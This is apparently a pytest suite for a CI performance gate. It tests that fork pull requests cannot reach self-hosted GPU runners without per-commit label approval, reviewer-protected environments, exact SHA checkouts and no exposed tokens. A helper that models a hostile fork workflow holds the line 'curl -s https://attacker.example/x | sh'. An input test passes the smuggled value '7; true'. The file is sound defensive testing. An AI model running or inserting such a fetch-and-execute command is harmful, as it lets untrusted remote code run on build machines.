"""Runner trust: no fork code on the GPU runners without a per-commit approval.

The shipped workflows are read with a real YAML parser, and where behaviour is at stake their
`run:` scripts are run the way the runner runs them (`bash --noprofile --norc -eo pipefail`,
with GITHUB_OUTPUT, GITHUB_EVENT_PATH and the step's `env:` resolved from an event payload)
against the fake GitHub server of tests/fake_github.py. The `gate trust` commands run as real
subprocesses.

What GitHub decides, and YAML cannot change, is modelled in one place (`file_github_runs`): for
`pull_request` (and its review events) GitHub runs the workflow file of the PR's own merge
commit, which a fork controls; for every other event the file comes from the base repository.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from compare_helpers import drain_results
from fake_github import FakeGitHub
from test_action import Runner, ab_inputs, runner_env, vllm_repo

from gate.results import save_results

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = sorted((ROOT / "workflows").glob("*.yml"))
PR_WORKFLOWS = ["gate-pr.yml", "gate-matrix.yml"]
EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
SHA_RE = re.compile(r"[0-9a-f]{40}")
TOKEN = "ghs_TrustTestToken_0123456789"
REPO = "octo/vllm"
FORK = "mallory/vllm"
SHA_A = "a" * 40
SHA_B = "b" * 40
BASE_SHA = "c" * 40
LABEL = "run-perf-gate"

# Events for which GitHub runs the PR's own copy of the workflow file.
FILE_FROM_PR_HEAD = {"pull_request", "pull_request_review", "pull_request_review_comment"}
# Events whose workflow file a fork cannot choose and whose code is trusted or approved.
TRUSTED_FILE_EVENTS = {"pull_request_target", "workflow_dispatch", "schedule"}
ALLOWED_SHA_REFS = {
    "${{ needs.decide.outputs.sha }}",  # the head commit of the approving event
    "${{ inputs.sha }}",  # the commit a writer dispatched
    "${{ github.sha }}",  # the default branch's commit of a scheduled run
}


# -- reading the workflows ----------------------------------------------------------------
def load(name: str | Path) -> dict:
    return yaml.safe_load((ROOT / "workflows" / name).read_text())


def triggers(doc: dict) -> dict:
    on = doc.get(True, doc.get("on"))  # PyYAML reads `on:` as True
    return {on: None} if isinstance(on, str) else dict(on)


def runs_on_self_hosted(job: dict) -> bool:
    labels = job.get("runs-on", [])
    labels = [labels] if isinstance(labels, str) else labels
    return "self-hosted" in labels


def self_hosted_jobs(doc: dict) -> dict[str, dict]:
    return {name: job for name, job in doc["jobs"].items() if runs_on_self_hosted(job)}


def needs(job: dict) -> list[str]:
    value = job.get("needs", [])
    return [value] if isinstance(value, str) else list(value)


def step(doc: dict, job: str, name: str) -> dict:
    return next(s for s in doc["jobs"][job]["steps"] if s.get("name") == name)


def is_checkout(s: dict) -> bool:
    return str(s.get("uses", "")).startswith("actions/checkout@")


def runs(job: dict, command: str) -> list[dict]:
    return [s for s in job["steps"] if command in str(s.get("run", ""))]


# -- the approval path, per kind of trigger -----------------------------------------------
def approval_problems(doc: dict, name: str, event: str) -> list[str]:
    """Why self-hosted job `name` could run without approval for `event` ([] when it can't)."""
    job = doc["jobs"][name]
    if event == "pull_request_target":
        decide = doc["jobs"].get("decide")
        problems = []
        if decide is None or "decide" not in needs(job):
            return ["does not need the decide job"]
        if "needs.decide.outputs.run == 'true'" not in str(job.get("if", "")):
            problems.append("runs without decide's run=true")
        if job.get("environment") != "${{ needs.decide.outputs.environment }}":
            problems.append("is not gated by decide's environment")
        checks = runs(decide, "gate trust check-environment perf-gate-fork")
        if not checks or checks[0].get("if") != "steps.decide.outputs.check-environment == 'true'":
            problems.append("decide does not check the fork environment's reviewers")
        return problems
    default_branch_only = (
        "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
    )
    if event in ("schedule", "workflow_dispatch") and job.get("if") == default_branch_only:
        return []  # the default branch's own code
    if event == "workflow_dispatch":
        check = doc["jobs"].get("check")
        if check is None or "check" not in needs(job):
            return ["does not need the check job"]
        if not runs(check, "gate trust check-head"):
            return ["the check job does not check the PR's head"]
        return []
    if event == "schedule":
        return ["is not limited to the default branch"]
    return [f"runs on {event}, whose workflow file or code is not approved"]


def fork_edit(doc: dict) -> dict:
    """What a fork's PR does to its own copy of the workflow: drop every `if:`, `needs:` and
    `environment:` and add its own job on the GPU runner."""
    evil = copy.deepcopy(doc)
    for job in evil["jobs"].values():
        for key in ("if", "needs", "environment"):
            job.pop(key, None)
    evil["jobs"]["mine"] = {
        "runs-on": ["self-hosted", "gpu", "a100"],
        "steps": [{"run": "curl -s https://attacker.example/x | sh"}],
    }
    return evil


def file_github_runs(event: str, base_file: dict, pr_file: dict) -> dict:
    return pr_file if event in FILE_FROM_PR_HEAD else base_file


# -- running a step's script like the runner ----------------------------------------------
def lookup(context: dict, expr: str) -> str:
    value: object = context
    for part in expr.split("."):
        assert isinstance(value, dict) and part in value, f"cannot resolve {expr!r}"
        value = value[part]
    return "" if value is None else str(value)


def resolve(context: dict, text: object) -> str:
    return EXPR.sub(lambda m: lookup(context, m.group(1)), str(text))


def run_step(
    doc: dict,
    job: str,
    name: str,
    tmp_path: Path,
    *,
    event_name: str = "pull_request_target",
    event: dict | None = None,
    fake: FakeGitHub | None = None,
    needs_outputs: dict | None = None,
    inputs: dict | None = None,
    extra_env: dict | None = None,
    cwd: Path | None = None,
) -> tuple[subprocess.CompletedProcess, dict[str, str]]:
    """Run one `run:` step of a shipped workflow; returns the process and its outputs."""
    spec = step(doc, job, name)
    assert spec.get("shell") == "bash" and EXPR.search(spec["run"]) is None
    event = event or {}
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(event))
    output = tmp_path / f"output-{job}-{len(list(tmp_path.glob('output-*')))}"
    output.write_text("")
    context = {
        "github": {"token": TOKEN, "event": event, "sha": SHA_A, "run_id": "77"},
        "needs": {k: {"outputs": v} for k, v in (needs_outputs or {}).items()},
        "inputs": inputs or {},
        "env": doc.get("env", {}),
    }
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "PYTHONPATH": str(ROOT),
        "HOME": os.environ.get("HOME", str(tmp_path)),
        "LANG": "C.UTF-8",
        "GITHUB_EVENT_NAME": event_name,
        "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_API_URL": fake.url if fake else "http://127.0.0.1:9",
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "RUNNER_TEMP": str(tmp_path),
        **{k: str(v) for k, v in doc.get("env", {}).items()},
        **{k: resolve(context, v) for k, v in (spec.get("env") or {}).items()},
        **(extra_env or {}),
    }
    script = tmp_path / "step.sh"
    script.write_text(spec["run"])
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=cwd or tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
    return proc, outputs


def pr_event(
    action: str,
    *,
    fork: bool = True,
    head_sha: str = SHA_A,
    labels: tuple[str, ...] = (),
    label: str | None = None,
    number: int = 7,
) -> dict:
    """A pull_request_target payload, trimmed to the fields GitHub documents."""
    head_repo = {"full_name": FORK if fork else REPO}
    event = {
        "action": action,
        "number": number,
        "pull_request": {
            "number": number,
            "head": {"sha": head_sha, "ref": "patch-1", "repo": head_repo},
            "base": {"sha": BASE_SHA, "ref": "main", "repo": {"full_name": REPO}},
            "labels": [{"name": name} for name in labels],
        },
        "repository": {"full_name": REPO, "default_branch": "main"},
    }
    if label is not None:
        event["label"] = {"name": label}
    return event


@pytest.fixture
def fake():
    with FakeGitHub(REPO) as server:
        server.good_tokens.add(TOKEN)
        yield server


def gate_cli(*args: str, fake: FakeGitHub, token: str = TOKEN) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "GITHUB_API_URL": fake.url,
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_TOKEN": token,
    }
    env.pop("GITHUB_EVENT_PATH", None)
    return subprocess.run(
        [sys.executable, "-m", "gate.cli", *args], env=env, capture_output=True, text=True
    )


# == 1. the file that decides is the base branch's ========================================
def test_self_hosted_jobs_run_only_on_events_whose_workflow_file_is_trusted():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        if not self_hosted_jobs(doc):
            continue
        untrusted = set(triggers(doc)) - TRUSTED_FILE_EVENTS
        assert not untrusted, f"{path.name}: self-hosted jobs under {untrusted}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_a_fork_pr_that_edits_the_workflow_reaches_no_gpu_runner(path):
    """The attack: the fork's PR rewrites its copy of the workflow (no label `if:`, no
    environment, its own self-hosted job). Whatever file GitHub runs for each trigger, every
    self-hosted job in it must still need an approval the fork cannot give."""
    shipped = yaml.safe_load(path.read_text())
    forked = fork_edit(shipped)
    for event in triggers(shipped):
        doc = file_github_runs(event, shipped, forked)
        unapproved = {
            name: problems
            for name in self_hosted_jobs(doc)
            if (problems := approval_problems(doc, name, event))
        }
        assert not unapproved, f"{path.name} on {event}: {unapproved}"


def test_the_pr_workflows_run_on_pull_request_target_for_the_default_branch():
    for name in PR_WORKFLOWS:
        on = triggers(load(name))
        assert list(on) == ["pull_request_target"], name
        assert on["pull_request_target"]["types"] == [
            "opened",
            "synchronize",
            "reopened",
            "labeled",
        ]
        assert on["pull_request_target"]["branches"] == ["main"]


# == 2. approval per commit ===============================================================
@pytest.mark.parametrize("workflow", PR_WORKFLOWS)
@pytest.mark.parametrize(
    ("event", "run", "revoke", "environment"),
    [
        (pr_event("labeled", label=LABEL, labels=(LABEL,)), "true", "false", "perf-gate-fork"),
        (
            pr_event("synchronize", head_sha=SHA_B, labels=(LABEL,)),
            "false",
            "true",
            "perf-gate-fork",
        ),
        (pr_event("reopened", labels=(LABEL,)), "false", "true", "perf-gate-fork"),
        (pr_event("opened"), "false", "false", "perf-gate-fork"),
        (
            pr_event("labeled", label="documentation", labels=(LABEL, "documentation")),
            "false",
            "false",
            "perf-gate-fork",
        ),
        (pr_event("synchronize", fork=False), "true", "false", "perf-gate"),
        (pr_event("synchronize", fork=False, labels=(LABEL,)), "true", "true", "perf-gate"),
        (pr_event("edited", labels=(LABEL,)), "false", "false", "perf-gate-fork"),
    ],
    ids=[
        "fork-labelled",
        "fork-push-after-label",
        "fork-reopened-with-label",
        "fork-opened",
        "fork-other-label",
        "branch-push",
        "branch-push-with-label",
        "fork-edited",
    ],
)
def test_decide_runs_a_fork_only_for_the_labelled_commit(
    workflow, event, run, revoke, environment, tmp_path
):
    proc, out = run_step(load(workflow), "decide", "Decide from the event", tmp_path, event=event)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert out["run"] == run
    assert out["revoke"] == revoke
    assert out["environment"] == environment
    assert out["sha"] == event["pull_request"]["head"]["sha"]
    # every fork run is preceded by the check that its environment has reviewers
    assert (
        out["check-environment"] == str(run == "true" and environment == "perf-gate-fork").lower()
    )


@pytest.mark.parametrize("workflow", PR_WORKFLOWS)
def test_decide_treats_a_deleted_fork_as_a_fork(workflow, tmp_path):
    event = pr_event("labeled", label=LABEL)
    event["pull_request"]["head"]["repo"] = None
    _, out = run_step(load(workflow), "decide", "Decide from the event", tmp_path, event=event)
    assert out["environment"] == "perf-gate-fork" and out["check-environment"] == "true"


@pytest.mark.parametrize("workflow", PR_WORKFLOWS)
def test_decide_refuses_to_run_from_the_prs_own_workflow_file(workflow, tmp_path):
    """Copied under `pull_request`, the decision would be the PR's to make: refuse."""
    proc, out = run_step(
        load(workflow),
        "decide",
        "Decide from the event",
        tmp_path,
        event_name="pull_request",
        event=pr_event("labeled", label=LABEL),
    )
    assert proc.returncode == 1
    assert "must run on pull_request_target" in proc.stdout
    assert "run" not in out


@pytest.mark.parametrize("workflow", PR_WORKFLOWS)
def test_a_push_after_approval_runs_nothing_until_labelled_again(workflow, fake, tmp_path):
    """label (commit A) -> run A; push B -> no run, label removed on GitHub; label again ->
    run B. The GPU job checks out decide's SHA, never a branch."""
    doc = load(workflow)
    fake.labels[7] = [LABEL, "documentation"]

    def decide(event: dict) -> dict:
        proc, out = run_step(doc, "decide", "Decide from the event", tmp_path, event=event)
        assert proc.returncode == 0, proc.stderr
        return out

    first = decide(pr_event("labeled", label=LABEL, labels=(LABEL,), head_sha=SHA_A))
    assert (first["run"], first["sha"]) == ("true", SHA_A)

    pushed = decide(pr_event("synchronize", labels=(LABEL,), head_sha=SHA_B))
    assert (pushed["run"], pushed["revoke"]) == ("false", "true")
    assert doc["jobs"]["revoke"]["if"] == "needs.decide.outputs.revoke == 'true'"
    proc, _ = run_step(
        doc,
        "revoke",
        "Remove the approval label",
        tmp_path,
        event=pr_event("synchronize", labels=(LABEL,), head_sha=SHA_B),
        fake=fake,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert fake.labels[7] == ["documentation"]
    (delete,) = fake.requests_to("DELETE")
    assert delete.path == f"/repos/{REPO}/issues/7/labels/{LABEL}"
    assert delete.headers["authorization"] == f"Bearer {TOKEN}"

    again = decide(pr_event("labeled", label=LABEL, labels=(LABEL,), head_sha=SHA_B))
    assert (again["run"], again["sha"]) == ("true", SHA_B)
    for job in self_hosted_jobs(doc).values():
        (code,) = [
            s
            for s in job["steps"]
            if is_checkout(s)
            and "repository" not in s["with"]
            and "sparse-checkout" not in s["with"]
        ]
        assert code["with"]["ref"] == "${{ needs.decide.outputs.sha }}"


def test_revoke_label_tolerates_a_label_already_gone(fake):
    fake.labels[7] = ["documentation"]
    proc = gate_cli("trust", "revoke-label", "--pr", "7", "--label", LABEL, fake=fake)
    assert proc.returncode == 0, proc.stderr
    assert "was not on the PR" in proc.stdout


def test_revoke_label_fails_without_permission(fake):
    fake.labels[7] = [LABEL]
    proc = gate_cli(
        "trust", "revoke-label", "--pr", "7", "--label", LABEL, fake=fake, token="fork-token"
    )
    assert proc.returncode == 4
    assert proc.stderr.startswith("gate: error: ") and "Traceback" not in proc.stderr
    assert fake.labels[7] == [LABEL]


# == 2b. the approval environment must have reviewers: fail closed ========================
REVIEWERS_RULE = {
    "id": 1,
    "type": "required_reviewers",
    "prevent_self_review": True,
    "reviewers": [{"type": "Team", "reviewer": {"slug": "perf-maintainers"}}],
}


def environment(*rules: dict, bypass: bool = False) -> dict:
    return {
        "id": 9,
        "name": "perf-gate-fork",
        "can_admins_bypass": bypass,
        "protection_rules": list(rules),
    }


@pytest.mark.parametrize("workflow", PR_WORKFLOWS)
def test_fork_run_stops_when_the_environment_has_no_reviewers(workflow, fake, tmp_path):
    doc = load(workflow)
    name = "Check that the fork environment requires a reviewer"
    event = pr_event("labeled", label=LABEL)

    fake.environments["perf-gate-fork"] = environment(REVIEWERS_RULE)
    proc, _ = run_step(doc, "decide", name, tmp_path, event=event, fake=fake)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "requires approval by one of 1 reviewer(s)" in proc.stdout
    (get,) = fake.requests_to("GET", "/environments/")
    assert get.path == f"/repos/{REPO}/environments/perf-gate-fork"

    fake.environments["perf-gate-fork"] = environment(
        {"id": 2, "type": "wait_timer", "wait_timer": 5}
    )
    proc, _ = run_step(doc, "decide", name, tmp_path, event=event, fake=fake)
    assert proc.returncode == 1
    assert "has no required reviewers" in proc.stderr and "refusing to run" in proc.stderr
    # decide fails, so the GPU job (which needs decide) never starts
    assert all("decide" in needs(job) for job in self_hosted_jobs(doc).values())


@pytest.mark.parametrize(
    ("answer", "code", "message"),
    [
        (environment(REVIEWERS_RULE), 0, "requires approval by one of 1 reviewer(s)"),
        (environment(dict(REVIEWERS_RULE, reviewers=[])), 1, "has no required reviewers"),
        (environment(), 1, "has no required reviewers"),
        (None, 1, "does not exist"),
        ({"name": ["not", "a", "name"]}, 4, "is not an environment"),
    ],
    ids=["reviewers", "empty-reviewers", "no-rules", "missing", "malformed"],
)
def test_check_environment(answer, code, message, fake):
    if answer is not None:
        fake.environments["perf-gate-fork"] = answer
    proc = gate_cli("trust", "check-environment", "perf-gate-fork", fake=fake)
    assert proc.returncode == code, proc.stdout + proc.stderr
    assert message in proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr


def test_check_environment_fails_closed_when_it_cannot_tell(fake):
    fake.environments["perf-gate-fork"] = environment(REVIEWERS_RULE)
    fake.fail_next(403, message="Resource not accessible by integration")
    proc = gate_cli("trust", "check-environment", "perf-gate-fork", fake=fake)
    assert proc.returncode == 4
    assert "actions: read" in proc.stderr and "Failing closed" in proc.stderr


def test_check_environment_warns_about_self_review_and_admin_bypass(fake):
    rule = dict(REVIEWERS_RULE, prevent_self_review=False)
    fake.environments["perf-gate-fork"] = environment(rule, bypass=True)
    proc = gate_cli("trust", "check-environment", "perf-gate-fork", fake=fake)
    assert proc.returncode == 0
    assert "Prevent self-review" in proc.stderr and "bypass" in proc.stderr


def test_decide_job_may_read_environments():
    for name in PR_WORKFLOWS:
        assert load(name)["jobs"]["decide"]["permissions"] == {"actions": "read"}


# == 1b. what the GPU job holds ===========================================================
def test_no_self_hosted_job_holds_a_write_token_secrets_or_a_cache():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        assert "secrets" not in json.dumps(doc.get("env", {})), path.name
        for name, job in self_hosted_jobs(doc).items():
            where = f"{path.name}:{name}"
            assert job.get("permissions") == {"contents": "read"}, where  # explicit, read-only
            text = json.dumps(job)
            assert "secrets." not in text and "secrets: inherit" not in text, where
            assert "github.token" not in text and "GITHUB_TOKEN" not in text, where
            for s in job["steps"]:
                uses = str(s.get("uses", ""))
                assert not uses.startswith(("actions/cache@", "actions/cache/")), where
                assert "cache" not in (s.get("with") or {}), where
                if is_checkout(s):
                    assert s["with"]["persist-credentials"] is False, where


def test_jobs_that_hold_write_tokens_never_run_the_code_under_test():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for name, job in doc["jobs"].items():
            perms = job.get("permissions", doc.get("permissions", {}))
            if "write" not in perms.values():
                continue
            assert not runs_on_self_hosted(job), f"{path.name}:{name}"
            for s in job["steps"]:
                if is_checkout(s) and "repository" not in s["with"]:
                    # only the nightly's commit of the default branch, to commit baselines
                    assert s["with"]["ref"] == "${{ github.sha }}", f"{path.name}:{name}"
                assert s.get("uses") != "./.gate", f"{path.name}:{name}"


# == 1c. one exact commit =================================================================
def test_checkouts_of_the_code_under_test_use_exact_commit_shas():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for name, job in self_hosted_jobs(doc).items():
            code = [s for s in job["steps"] if is_checkout(s) and "repository" not in s["with"]]
            assert code, f"{path.name}:{name} checks out nothing"
            for s in code:
                ref = s["with"].get("ref")
                if "sparse-checkout" in s["with"]:  # the base commit's baselines, data only
                    assert ref == "${{ github.event.pull_request.base.sha }}"
                    continue
                assert ref in ALLOWED_SHA_REFS, f"{path.name}:{name}: ref {ref!r}"
                confirm = [c for c in job["steps"] if "git rev-parse HEAD" in str(c.get("run"))]
                if ref != "${{ github.sha }}":
                    assert confirm, f"{path.name}:{name}: nothing confirms the checked-out commit"


def git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@e",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@e",
    }
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env
    ).stdout.strip()


@pytest.mark.parametrize(
    ("workflow", "job", "step_name", "needs_or_inputs"),
    [
        ("gate-pr.yml", "measure", "Confirm the checkout is the approved commit", "needs"),
        ("gate-matrix.yml", "measure", "Confirm the checkout is the approved commit", "needs"),
        ("gate-rerun.yml", "measure", "Confirm the checkout is the requested commit", "inputs"),
    ],
)
def test_the_gpu_job_stops_when_the_checkout_is_not_the_approved_commit(
    workflow, job, step_name, needs_or_inputs, tmp_path
):
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    git(repo, "commit", "-q", "--allow-empty", "-m", "x")
    head = git(repo, "rev-parse", "HEAD")
    for sha, code in [(head, 0), (SHA_B, 1)]:
        given = (
            {"needs_outputs": {"decide": {"sha": sha}}}
            if needs_or_inputs == "needs"
            else {"inputs": {"sha": sha}}
        )
        proc, _ = run_step(load(workflow), job, step_name, tmp_path, cwd=repo, **given)
        assert proc.returncode == code, proc.stdout + proc.stderr
    assert f"checked out {head}, not the" in proc.stdout


# == 3. reruns measure the dispatched commit, while it is the PR's head ==================
def test_rerun_takes_a_required_sha_and_checks_out_exactly_it():
    doc = load("gate-rerun.yml")
    inputs = triggers(doc)["workflow_dispatch"]["inputs"]
    assert inputs["sha"]["required"] is True and inputs["sha"]["type"] == "string"
    assert "ref" not in inputs  # no branch names
    measure = doc["jobs"]["measure"]
    assert needs(measure) == ["check"]
    (code,) = [s for s in measure["steps"] if is_checkout(s) and "repository" not in s["with"]]
    assert code["with"]["ref"] == "${{ inputs.sha }}"
    post = step(doc, "comment", "Post the comment")
    assert '--expect-head-sha "$SHA"' in post["run"] and post["env"]["SHA"] == "${{ inputs.sha }}"


def test_rerun_fails_before_the_gpu_when_the_pr_head_moved(fake, tmp_path):
    doc = load("gate-rerun.yml")
    name = "Check that the PR's head is still the requested commit"
    fake.pulls[7] = {"number": 7, "head": {"sha": SHA_B}}
    given = {"event_name": "workflow_dispatch", "fake": fake}

    proc, _ = run_step(doc, "check", name, tmp_path, inputs={"pr": "7", "sha": SHA_A}, **given)
    assert proc.returncode == 1
    assert f"PR #7's head is {SHA_B}, not the requested commit {SHA_A}" in proc.stderr
    assert "moved" in proc.stderr

    proc, _ = run_step(doc, "check", name, tmp_path, inputs={"pr": "7", "sha": SHA_B}, **given)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    gets = fake.requests_to("GET", "/pulls/7")
    assert len(gets) == 2 and gets[0].headers["authorization"] == f"Bearer {TOKEN}"


@pytest.mark.parametrize(
    ("sha", "pr", "code"),
    [
        (SHA_A, "7", 0),
        (SHA_A, "", 0),
        ("main", "7", 2),
        ("refs/pull/7/head", "", 2),
        (SHA_A.upper(), "7", 2),
        (SHA_A[:12], "7", 2),
        (SHA_A, "7; true", 2),
    ],
)
def test_rerun_inputs_are_checked(sha, pr, code, tmp_path):
    proc, _ = run_step(
        load("gate-rerun.yml"),
        "check",
        "Check the inputs",
        tmp_path,
        event_name="workflow_dispatch",
        inputs={"sha": sha, "pr": pr},
    )
    assert proc.returncode == code, proc.stdout + proc.stderr


def test_check_head_rejects_a_short_sha(fake):
    proc = gate_cli("trust", "check-head", "--pr", "7", "--sha", "abc123", fake=fake)
    assert proc.returncode == 2
    assert "not a full 40-character" in proc.stderr
    assert not fake.requests


# == 4. tokens: publish only when commenting, none on command lines, the gate pinned ======
@pytest.fixture
def action_workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "workspace"
    ws.mkdir()
    vllm_repo(ws)
    stored = tmp_path / "stored"
    stored.mkdir()
    save_results(drain_results([233.0, 232.0, 234.0], label="base"), stored / "base.json")
    save_results(drain_results([233.5, 231.5, 233.0]), stored / "healthy.json")
    return ws


@pytest.mark.parametrize("comment", ["false", "true"])
def test_action_passes_the_token_only_to_a_commenting_publish(comment, tmp_path, action_workspace):
    """Every `gate` the action runs is logged with whether GITHUB_TOKEN reached it."""
    with FakeGitHub() as fake:
        fake.good_tokens.add("ghs_ActionTestToken_987654321")
        shims = tmp_path / "shims"
        shims.mkdir()
        log = tmp_path / "gate-calls.log"
        real = shutil.which("gate", path=str(Path(sys.executable).parent))
        (shims / "gate").write_text(
            "#!/usr/bin/env bash\n"
            f'printf "%s token=%s\\n" "${{1:-}}" "${{GITHUB_TOKEN:+set}}" >> {log}\n'
            f'exec {real} "$@"\n'
        )
        (shims / "gate").chmod(0o755)
        env = runner_env(
            tmp_path,
            fake,
            "pull_request",
            {"action": "synchronize", "number": 7, "pull_request": {"number": 7}},
        )
        env["PATH"] = f"{shims}{os.pathsep}{env['PATH']}"
        env["PYTHONPATH"] = str(ROOT)
        inputs = ab_inputs(tmp_path, "healthy", comment=comment)
        result = Runner(action_workspace, inputs, env).run()
    assert result.outputs["verdict"] == "pass"
    calls = dict(line.split(" token=") for line in log.read_text().splitlines())
    assert calls.pop("publish") == ("set" if comment == "true" else "")
    assert calls and set(calls.values()) == {""}, calls  # compare, hunks, report: never
    assert bool(fake.comments.get(7)) == (comment == "true")


def test_action_gives_no_measuring_step_a_token():
    steps = yaml.safe_load((ROOT / "action.yml").read_text())["runs"]["steps"]
    for s in steps:
        env = json.dumps(s.get("env") or {})
        if s.get("id") == "publish":
            assert s["env"]["GITHUB_TOKEN"] == (
                "${{ inputs.comment == 'true' && inputs.github-token || '' }}"
            )
            continue
        assert "token" not in env.lower(), s["name"]


def gate_checkouts(job: dict) -> list[int]:
    return [
        i
        for i, s in enumerate(job["steps"])
        if is_checkout(s) and s["with"].get("repository") == "${{ env.GATE_REPOSITORY }}"
    ]


def test_every_workflow_pins_the_gate_and_checks_the_pin_before_checking_it_out():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        assert SHA_RE.fullmatch(str(doc["env"]["GATE_REF"])), path.name
        for name, job in doc["jobs"].items():
            for i in gate_checkouts(job):
                before = [s for s in job["steps"][:i] if "GATE_REF" in str(s.get("run", ""))]
                assert before, f"{path.name}:{name}: the gate is checked out unchecked"
                # it runs whenever the checkout does
                assert before[-1].get("if") in (None, job["steps"][i].get("if")), (path, name)


PIN_CASES = [
    ("main", 1),
    ("v1.2.0", 1),
    (SHA_A[:7], 1),
    (SHA_A.upper(), 1),
    (SHA_A + "\n" + SHA_B, 1),
    ("", 1),
    (SHA_A, 0),
]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_the_pin_check_fails_unless_gate_ref_is_a_full_sha(path, tmp_path):
    doc = yaml.safe_load(path.read_text())
    checked = 0
    for name, job in doc["jobs"].items():
        for s in job["steps"]:
            if s.get("name") != "Check that the gate is pinned to a commit":
                continue
            for ref, code in PIN_CASES:
                proc, _ = run_step(doc, name, s["name"], tmp_path, extra_env={"GATE_REF": ref})
                assert proc.returncode == code, (name, ref, proc.stdout)
                if code:
                    assert "GATE_REF must be a full 40-character commit SHA" in proc.stdout
            checked += 1
    assert checked == sum(len(gate_checkouts(job)) for job in doc["jobs"].values())


def test_nightly_push_keeps_the_token_off_command_lines_and_uses_the_server_url(tmp_path):
    """Run the nightly's push step with real git against a local bare origin; a shim in
    front of git and gh records every command line (what /proc/PID/cmdline shows)."""
    token = "ghs_NightlySecret_abcdefghijklmnop"
    encoded = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    subprocess.run(["git", "clone", "-q", str(origin), str(work)], check=True)
    git(work, "commit", "-q", "--allow-empty", "-m", "base")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/main")
    baselines = work / ".github/perf-gate-baselines"
    baselines.mkdir(parents=True)
    (baselines / "a100.yaml").write_text("drain_throughput: 233\n")

    shims, log = tmp_path / "shims", tmp_path / "argv.log"
    shims.mkdir()
    for tool_name, target in (("git", shutil.which("git")), ("gh", "/bin/true")):
        (shims / tool_name).write_text(
            "#!/usr/bin/env bash\n"
            f'printf "%s\\0" {tool_name} "$@" >> {log}; printf "\\n" >> {log}\n'
            f'if [ "${{1:-}}" = push ]; then echo "config=$GIT_CONFIG_KEY_0" >> {log}; fi\n'
            f'if [ {tool_name} = gh ]; then echo "gh-host=$GH_HOST" >> {log}; fi\n'
            f'exec {target} "$@"\n'
        )
        (shims / tool_name).chmod(0o755)

    doc = load("gate-nightly-baseline.yml")
    proc, _ = run_step(
        doc,
        "update",
        "Push a branch and open a PR",
        tmp_path,
        event_name="schedule",
        event={"repository": {"default_branch": "main"}},
        cwd=work,
        extra_env={
            "PATH": f"{shims}{os.pathsep}{os.environ['PATH']}",
            "GITHUB_SERVER_URL": "https://ghe.example.test",
            "GH_TOKEN": token,
        },
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert git(origin, "branch", "--list", "perf-gate/baselines-77").endswith("baselines-77")
    text = log.read_text()
    assert token not in text and encoded not in text
    assert "config=http.https://ghe.example.test/.extraheader" in text
    assert "gh-host=ghe.example.test" in text
    assert "github.com" not in text


def test_no_workflow_script_hard_codes_the_github_host():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for job in doc["jobs"].values():
            for s in job["steps"]:
                assert "https://github.com" not in str(s.get("run", "")), path.name
